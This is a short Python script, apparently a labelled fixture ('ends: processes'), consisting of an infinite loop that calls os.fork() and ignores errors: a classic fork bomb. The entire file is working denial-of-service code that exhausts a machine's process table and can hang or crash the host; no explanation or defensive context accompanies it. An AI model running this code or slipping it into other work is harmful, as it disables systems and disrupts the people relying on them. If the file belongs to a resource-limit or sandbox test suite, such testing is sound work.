# ends: processes
# ruff: noqa
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
